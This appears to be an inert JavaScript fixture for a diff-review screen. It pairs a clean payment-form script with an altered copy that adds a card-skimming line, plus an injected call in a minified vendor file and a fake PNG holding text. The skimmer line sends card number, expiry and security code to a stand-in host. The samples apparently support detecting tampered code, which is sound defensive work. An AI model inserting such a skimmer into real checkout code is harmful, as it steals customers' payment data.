// Inert text for the screen to show; none of it is ever run.

export const PAYMENT_BEFORE = `import { mountCardFields } from './musubi-fields.js';

const form = document.querySelector('#payment-form');
const frame = document.querySelector('#card-frame');
const fields = mountCardFields(frame, { locale: document.documentElement.lang });

/** The token, never the card, goes to the shop. */
async function tokenise() {
  const { token, error } = await fields.tokenise();
  if (error) throw new PaymentError(error.code, error.message);
  return token;
}

form.addEventListener('submit', async (event) => {
  event.preventDefault();
  const button = form.querySelector('button[type=submit]');
  button.disabled = true;
  try {
    form.elements.token.value = await tokenise();
    form.submit();
  } catch (error) {
    showError(error);
    button.disabled = false;
  }
});

function showError(error) {
  const line = document.querySelector('#payment-error');
  line.textContent = error.message;
  line.hidden = false;
}
`;

export const PAYMENT_AFTER = PAYMENT_BEFORE.replace(
  `    form.elements.token.value = await tokenise();
`,
  `    const kept = fields.values(); // example of an alteration, inert
    relay('http://127.0.0.99:4399/collect', kept.number, kept.expiry, kept.code);
    form.elements.token.value = await tokenise();
`,
).replace(
  '{ locale: document.documentElement.lang }',
  '{ locale: document.documentElement.lang, readable: true }',
);

const words = Array.from({ length: 900 }, (_, at) => `function a${at}(e,t){return e[${at % 17}]+t}`).join(
  ';',
);
export const MINIFIED_BEFORE = `/*! vendor 4.2.1 */${words};`;
export const MINIFIED_AFTER = MINIFIED_BEFORE.replace('function a451', 'relay("127.0.0.99",e);function a451');

export const IMAGE_AFTER = new Uint8Array([
  0x89,
  0x50,
  0x4e,
  0x47,
  0x0d,
  0x0a,
  0x1a,
  0x0a,
  0,
  0,
  0,
  0x0d,
  0x49,
  0x48,
  0x44,
  0x52,
  ...new TextEncoder().encode('not a picture: text of an example, kept where pictures belong'),
  ...Array.from({ length: 200 }, (_, at) => (at * 37) % 256),
]);
